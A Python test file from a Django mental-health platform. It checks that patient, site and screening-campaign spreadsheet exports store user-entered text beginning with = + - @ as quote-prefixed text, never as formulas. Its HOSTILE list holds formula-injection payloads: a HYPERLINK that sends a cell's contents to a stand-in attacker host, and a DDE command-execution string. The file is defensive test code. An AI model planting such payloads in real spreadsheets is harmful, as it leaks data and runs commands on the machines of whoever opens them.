"""Spreadsheet formula injection: every workbook the platform writes keeps text as text. A value a user typed that
starts with = + - @ (an address "=HYPERLINK(...)", a site name, a participant label) is a string cell with Excel's
quote prefix, never a formula, a link or a number — through the one writer (xinli.core.xlsx.new_workbook)."""

import datetime
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone
from openpyxl import load_workbook

from xinli.core import xlsx
from xinli.core.policy import Role
from xinli.testing.fixtures import make_user

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def assert_text_only(data: bytes, *expected: str) -> None:
    """No cell of any sheet is a formula; each expected text is there as written, quote-prefixed."""
    book = load_workbook(io.BytesIO(data))
    seen = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert cell.hyperlink is None, f"{ws.title}!{cell.coordinate} is a link"
                if isinstance(cell.value, str):
                    seen[cell.value] = cell.quotePrefix
    for text in expected:
        assert text in seen, f"{text!r} is missing from the workbook"
        assert seen[text], f"{text!r} is written without the quote prefix"


def test_only_the_shared_writer_opens_workbooks():
    root = Path(settings.BASE_DIR) / "xinli"
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if "tests" not in p.parts and p.name != "xlsx.py" and "xlsxwriter" in p.read_text(encoding="utf-8")]
    assert not offenders, f"open workbooks with xinli.core.xlsx.new_workbook, not xlsxwriter directly: {offenders}"


def test_table_exports_keep_text_as_text():
    """Indicator tables (scorecard, indicator page, rollups) go through ``xlsx.workbook``: unit names are data."""
    data = xlsx.workbook([("表", ["区划", "数值"], [[HOSTILE[0], 1.5], [HOSTILE[1], None], ["普通文字", 2]])])
    assert_text_only(data, HOSTILE[0], HOSTILE[1])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["B2"].value == 1.5 and ws["A4"].quotePrefix is False


def test_smd_register_export_keeps_a_hostile_address_as_text(tree, people):
    from xinli.archives.services import update_person
    from xinli.smd.export import export_register
    from xinli.smd.services import register_patient

    doctor = make_user("jingfang", [(tree.a1, Role.SMD_DOCTOR)])
    worker = make_user("cun", [(tree.a1v1, Role.COMMUNITY_WORKER)])
    person = people.in_a1v1
    update_person(worker, person, {"address": HOSTILE[0]}, expected_version=person.version)
    register_patient(doctor, person, {"diagnosis": "F20", "diagnosed_by": "市精神卫生中心",
                                      "diagnosed_on": datetime.date(2020, 5, 1), "source": "hospital"})
    assert_text_only(export_register(doctor, identified=True, purpose="移交"), HOSTILE[0])


def test_network_register_export_keeps_hostile_names_as_text(tree):
    from xinli.network import services
    from xinli.network.transfer import export_workbook

    officer = make_user("net_officer", [(tree.county_a, Role.HEALTH_OFFICER)])
    services.create_site(officer, org_unit=tree.a1v1, name=HOSTILE[2], kind="village_room",
                         opened_on=datetime.date(2024, 1, 1), address=HOSTILE[3])
    assert_text_only(export_workbook(officer), HOSTILE[2], HOSTILE[3])


def test_campaign_positive_list_keeps_a_hostile_label_as_text(tree):
    from xinli.screening import campaigns

    psy = make_user("school_psy", [(tree.county_a, Role.SCHOOL_PSYCHOLOGIST)])
    now = timezone.now()
    campaign = campaigns.create_campaign(psy, name="普查", kind="school", institution="一中", org_unit=tree.county_a,
                                         scales=["phq9"], opens_at=now - datetime.timedelta(hours=1),
                                         closes_at=now + datetime.timedelta(days=1),
                                         groups=[{"grade": "初二", "name": HOSTILE[1],
                                                  "participants": [{"label": HOSTILE[0], "minor_under_14": False}]}])
    campaigns.submit(campaign.participants.get().code, {"phq9": {str(i): 3 for i in range(1, 10)}})
    assert_text_only(campaigns.export_positive_xlsx(psy, campaign, identified=True, purpose="随访"), HOSTILE[0], HOSTILE[1])
